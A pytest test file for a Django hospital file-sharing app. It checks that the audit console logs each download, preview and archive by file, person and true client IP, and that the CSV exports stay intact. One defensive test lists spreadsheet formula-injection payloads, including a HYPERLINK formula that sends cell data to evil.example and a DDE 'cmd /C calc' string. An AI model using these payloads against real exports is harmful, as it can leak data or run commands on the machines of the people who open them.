"""A hospital auditor's review: "who downloaded what". Every way to a file's content
leaves an event the console shows in words (the file's name, who, from where); the
exports open as written; the log cannot be rewritten without it showing.

People: Alice Martin (owner of an echo), Tom (a teammate), Audrey (the auditor), Sam (a
site administrator without the auditor role).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.http import StreamingHttpResponse
from django.test import Client, RequestFactory
from django.urls import reverse

from accounts import tokens
from accounts.models import User
from accounts.offboarding import user_deactivate
from audit import services as audit
from audit.actions import Action
from audit.models import AuditEvent, Outcome
from files import services
from files.models import File
from privacy.services import person_content_erase
from sharing.services.links import share_link_create
from sharing.views.selection import selection_download
from tests.files_helpers import (
    Backend,
    body_of,
    content_of,
    root_of,
    stream_close,
    version_store,
)
from tests.helpers import client_signed_in
from tests.test_sharing_archives import response_close

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("rate_limit_cache")]


@pytest.fixture(autouse=True)
def audit_folders(settings: Any, tmp_path: Path) -> None:
    settings.AUDIT_CHECKPOINT_DIR = tmp_path / "checkpoints"
    settings.AUDIT_SIGNING_KEY_FILE = tmp_path / "secrets" / "audit_signing_key.pem"
    settings.AUDIT_CHECKPOINT_S3_BUCKET = ""


def echo_in_cardiology(owner: User, name: str = "Échographie Dupont.pdf") -> File:
    cardiology = services.folder_create(actor=owner, parent=root_of(owner), name="Cardiologie")
    return version_store(actor=owner, folder=cardiology, name=name, content=content_of(5000)).file


def streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- Exports open as written ----------------------------------------------------------


def test_the_csv_export_opens_in_a_spreadsheet_with_its_french_accents(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    """Excel reads a CSV without a byte order mark as the Windows code page: "Échographie"
    became "Ã‰chographie" for the auditor double-clicking the export."""
    echo = echo_in_cardiology(owner)
    client_signed_in(owner).get(reverse("files:download", args=[echo.pk])).getvalue()
    export = streamed(
        client_signed_in(auditor).get("/audit/export.csv", {"item": f"file:{echo.pk}"})
    )
    assert export.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(export.decode("utf-8-sig"))))
    assert rows[0]["sequence"]
    assert any("Échographie Dupont.pdf" in row["details"] for row in rows)


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "+33 cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_in_any_exported_cell_stays_text(auditor: User, name: str) -> None:
    audit.record(
        action=Action.ACCOUNTS_LOGIN,
        actor_label=name,
        outcome=Outcome.DENIED,
        details={"name": name, "note": 'a, b "quoted"\nnext line'},
    )
    audit.record(action=Action.ACCOUNTS_LOGIN, actor_label="x", outcome=Outcome.DENIED)
    export = streamed(
        client_signed_in(auditor).get("/audit/export.csv", {"action": Action.ACCOUNTS_LOGIN})
    ).decode("utf-8-sig")
    rows = [row for row in csv.DictReader(io.StringIO(export)) if row["actor_id"] == ""]
    assert len(rows) == 2  # a comma, a quote or a newline stays in its field
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- Who: the address is the client's, not what it claims -----------------------------


def test_a_client_cannot_write_the_address_it_likes_into_the_log(
    owner: User, settings: Any, folder_backend: Backend
) -> None:
    settings.TRUSTED_PROXY_COUNT = 0
    echo = echo_in_cardiology(owner)
    client = client_signed_in(owner)
    client.get(
        reverse("files:download", args=[echo.pk]),
        HTTP_X_FORWARDED_FOR="6.6.6.6",
        HTTP_X_REAL_IP="6.6.6.6",
        REMOTE_ADDR="10.1.2.3",
    ).getvalue()
    download = AuditEvent.objects.filter(action=Action.FILES_VERSION_DOWNLOAD).get()
    assert download.ip_address == "10.1.2.3"


def test_behind_one_proxy_only_its_own_entry_is_trusted(
    owner: User, settings: Any, folder_backend: Backend
) -> None:
    settings.TRUSTED_PROXY_COUNT = 1
    echo = echo_in_cardiology(owner)
    client_signed_in(owner).get(
        reverse("files:download", args=[echo.pk]),
        HTTP_X_FORWARDED_FOR="6.6.6.6, 192.0.2.7",
        REMOTE_ADDR="10.0.0.1",
    ).getvalue()
    download = AuditEvent.objects.filter(action=Action.FILES_VERSION_DOWNLOAD).get()
    assert download.ip_address == "192.0.2.7"


# --- Every way in shows up in the file's history, by name ------------------------------


def file_history(auditor: User, file: File) -> tuple[str, list[Any]]:
    response = client_signed_in(auditor).get("/audit/file/", {"item": f"file:{file.pk}"})
    assert response.status_code == 200
    return response.content.decode(), response.context["rows"]


def test_an_api_token_download_names_the_file_and_the_person(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    echo = echo_in_cardiology(owner)
    _token, plaintext = tokens.token_create(
        actor=owner, name="Lab export", scopes=["read"], expires_in_days=30
    )
    api = Client(HTTP_AUTHORIZATION=f"Bearer {plaintext}")
    download = api.get(f"/api/v1/files/{echo.pk}/content/")
    assert download.status_code == 200
    assert body_of(download) == content_of(5000)
    page, rows = file_history(auditor, echo)
    downloads = [row for row in rows if row.event.action == Action.FILES_VERSION_DOWNLOAD]
    assert [(row.who, row.what, row.path_then) for row in downloads] == [
        ("Alice Martin", "Échographie Dupont.pdf", "/Cardiologie/Échographie Dupont.pdf")
    ]
    # Which token: a stolen one is told apart from Alice's browser, every time (its
    # own "used" event is written at most once a minute).
    assert downloads[0].event.details["api_token"] == _token.prefix
    assert downloads[0].who_via == "with the API token “Lab export”"
    assert "with the API token “Lab export”" in page
    sent = AuditEvent.objects.get(action=Action.FILES_VERSION_SENT)
    assert sent.details["api_token"] == _token.prefix


def test_a_renamed_file_keeps_its_name_then_in_old_events(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    echo = echo_in_cardiology(owner)
    client_signed_in(owner).get(reverse("files:download", args=[echo.pk])).getvalue()
    services.file_rename(actor=owner, file=echo, name="Renommé.pdf")
    page, rows = file_history(auditor, echo)
    downloads = [row for row in rows if row.event.action == Action.FILES_VERSION_DOWNLOAD]
    assert downloads[0].what == "Échographie Dupont.pdf"
    assert "/Cardiologie/Échographie Dupont.pdf" in page


def test_a_file_erased_with_its_owner_says_so_in_its_own_history(
    auditor: User, owner: User, site_admin: User, folder_backend: Backend
) -> None:
    """The DPO erases a leaver's content: each erased file's history says when it was
    destroyed and by whom, as a file deleted for good does, and its downloads stay
    readable by name."""
    echo = echo_in_cardiology(owner)
    client_signed_in(owner).get(reverse("files:download", args=[echo.pk])).getvalue()
    user_deactivate(actor=site_admin, user=owner, successor=None)
    owner.refresh_from_db()
    person_content_erase(actor=site_admin, person=owner, confirmation=owner.email)
    page, rows = file_history(auditor, echo)
    assert "Échographie Dupont.pdf" in page
    assert "deleted for good" in page
    destroyed = [row for row in rows if row.event.action == Action.FILES_FILE_PURGE]
    assert len(destroyed) == 1
    assert site_admin.email in (destroyed[0].who, destroyed[0].who_email)
    assert destroyed[0].what == "Échographie Dupont.pdf"


# --- Who may look --------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/audit/export.csv", "/audit/export.jsonl", "/audit/file/"])
def test_a_site_admin_without_the_role_cannot_export_and_is_recorded(
    site_admin: User, path: str
) -> None:
    response = client_signed_in(site_admin).get(path)
    assert response.status_code == 403
    refused = AuditEvent.objects.filter(
        action=Action.AUDIT_CONSOLE_ACCESS, outcome=Outcome.DENIED, actor_id=str(site_admin.pk)
    )
    assert refused.count() == 1


def test_an_impossible_time_at_the_spring_change_is_a_400_not_a_500(auditor: User) -> None:
    """02:30 on 29 March 2026 does not exist in Paris (clocks go from 02:00 to 03:00)."""
    client = client_signed_in(auditor)
    for path in ("/audit/explore/", "/audit/export.csv", "/audit/person/"):
        response = client.get(path, {"since": "2026-03-29T02:30", "actor": "alice@example.org"})
        assert response.status_code == 400, path


# --- Archives: recorded before the first byte, ended with what was sent -----------------


def study_folder(owner: User) -> tuple[File, File]:
    study = services.folder_create(actor=owner, parent=root_of(owner), name="Étude genou")
    first = version_store(actor=owner, folder=study, name="img1.dcm", content=content_of(4000))
    second = version_store(actor=owner, folder=study, name="img2.dcm", content=content_of(3000))
    return first.file, second.file


def test_a_recipients_zip_is_in_the_log_even_if_the_server_dies_while_sending_it(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    """The ZIP of a folder link starts to leave; the web process is killed (a deploy, the
    OOM killer) before the stream ends, so no end is ever written. Each file's history
    must already say that the recipient downloaded it, as a single file's does."""
    first, second = study_folder(owner)
    _link, token = share_link_create(
        actor=owner, target=first.folder, recipient_email="dr.radio@clinique.example"
    )
    recipient = Client(REMOTE_ADDR="198.51.100.9")
    recipient.get(reverse("share_link:open", args=[token]))
    archive = recipient.get(reverse("share_link:archive", args=[token]))
    assert archive.status_code == 200
    first_bytes = next(iter(archive.streaming_content))  # type: ignore[attr-defined]
    assert first_bytes  # bytes left; then the process dies, no end is written
    for member in (first, second):
        _page, rows = file_history(auditor, member)
        downloads = [row for row in rows if row.event.action == Action.FILES_VERSION_DOWNLOAD]
        assert [(row.who, row.what, row.ip_address) for row in downloads] == [
            ("dr.radio@clinique.example", member.name, "198.51.100.9")
        ], member.name
    # Ended here, not by the garbage collector in a later test: its end would land in
    # that test's log (a checkpoint counted 6 events instead of 3).
    stream_close(archive)


def test_a_recipients_zip_shows_once_per_file_with_what_was_sent(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    first, second = study_folder(owner)
    _link, token = share_link_create(
        actor=owner, target=first.folder, recipient_email="dr.radio@clinique.example"
    )
    recipient = Client()
    recipient.get(reverse("share_link:open", args=[token]))
    assert body_of(recipient.get(reverse("share_link:archive", args=[token])))
    for member, size in ((first, 4000), (second, 3000)):
        _page, rows = file_history(auditor, member)
        sent = [row for row in rows if row.outside and row.event.action.endswith("download")]
        assert [(row.who, row.bytes_sent, row.completed) for row in sent] == [
            ("dr.radio@clinique.example", size, True)
        ], member.name
        # The folder link that gave it is in each member's story too (made, opened).
        assert {row.event.action for row in rows if row.outside} >= {Action.SHARING_LINK_ACCESS}, (
            member.name
        )


def test_a_zip_of_ticked_files_says_whether_it_completed(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    """Alice ticks her study and downloads it as a ZIP but her connection drops after the
    first bytes: the auditor sees the downloads started and not completed."""
    first, second = study_folder(owner)
    request = RequestFactory(REMOTE_ADDR="10.1.2.3").post(
        reverse("sharing:selection_download"), {"folder": str(first.folder_id)}
    )
    request.user = owner
    archive = selection_download(request)
    assert isinstance(archive, StreamingHttpResponse)
    assert next(iter(archive))
    response_close(archive)  # what the WSGI server does when the client is gone
    for member in (first, second):
        _page, rows = file_history(auditor, member)
        downloads = [row for row in rows if row.event.action == Action.FILES_VERSION_DOWNLOAD]
        assert len(downloads) == 1, member.name
        assert downloads[0].completed is False, member.name


# --- A file renamed since is still found by the name it had -----------------------------


def test_a_file_renamed_to_hide_it_is_found_by_its_old_name(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    """The auditor investigates Mr Dupont's echo, but it was renamed "Divers.pdf" after it
    was downloaded (and its folder "Dupont" renamed too): searching "dupont" finds them,
    saying what they were called."""
    echo = echo_in_cardiology(owner)
    client_signed_in(owner).get(reverse("files:download", args=[echo.pk])).getvalue()
    services.file_rename(actor=owner, file=echo, name="Divers.pdf")
    patient = services.folder_create(actor=owner, parent=root_of(owner), name="Patient Dupont")
    services.folder_rename(actor=owner, folder=patient, name="Archives")
    found = client_signed_in(auditor).get("/audit/file/", {"q": "DUPONT"})
    page = found.content.decode()
    assert {match.key for match in found.context["matches"]} == {
        f"file:{echo.pk}",
        f"folder:{patient.pk}",
    }
    assert "Divers.pdf" in page
    assert "formerly “Échographie Dupont.pdf”" in page
    assert "formerly “Patient Dupont”" in page


# --- Dates are the site's: the day starts at midnight in Paris ---------------------------


def test_a_day_in_paris_starts_at_2300_utc_the_day_before(auditor: User) -> None:
    """An event at 23:30 UTC on 14 January is 00:30 on the 15th in Paris: the 15th's
    filter holds it, the 14th's does not; in summer the offset is two hours."""
    with time_machine.travel(dt.datetime(2026, 1, 14, 23, 30, tzinfo=dt.UTC), tick=False):
        winter = audit.record(action=Action.ACCOUNTS_LOGIN, actor_label="a@example.org")
    with time_machine.travel(dt.datetime(2026, 7, 14, 22, 30, tzinfo=dt.UTC), tick=False):
        summer = audit.record(action=Action.ACCOUNTS_LOGIN, actor_label="a@example.org")
    client = client_signed_in(auditor)

    def shown(since: str, until: str) -> set[int]:
        response = client.get(
            "/audit/explore/",
            {"since": since, "until": until, "action": Action.ACCOUNTS_LOGIN.value},
        )
        assert response.status_code == 200
        return {row.event.sequence for row in response.context["rows"]}

    assert winter.sequence in shown("2026-01-15T00:00", "2026-01-16T00:00")
    assert winter.sequence not in shown("2026-01-14T00:00", "2026-01-15T00:00")
    assert summer.sequence in shown("2026-07-15T00:00", "2026-07-16T00:00")
    assert summer.sequence not in shown("2026-07-14T00:00", "2026-07-15T00:00")


def test_a_recipients_preview_shows_in_the_files_history_by_name(
    auditor: User, owner: User, folder_backend: Backend
) -> None:
    notes = version_store(
        actor=owner, folder=root_of(owner), name="Compte rendu.txt", content=b"Bilan normal.\n"
    ).file
    _link, token = share_link_create(
        actor=owner, target=notes, recipient_email="dr.radio@clinique.example"
    )
    recipient = Client(REMOTE_ADDR="203.0.113.5")
    recipient.get(reverse("share_link:open", args=[token]))
    preview = recipient.get(reverse("share_link:preview", args=[token, notes.pk]))
    assert preview.status_code == 200
    _page, rows = file_history(auditor, notes)
    viewed = [row for row in rows if row.event.action == Action.FILES_VERSION_VIEW]
    assert [(row.who, row.what, row.ip_address) for row in viewed] == [
        ("dr.radio@clinique.example", "Compte rendu.txt", "203.0.113.5")
    ]
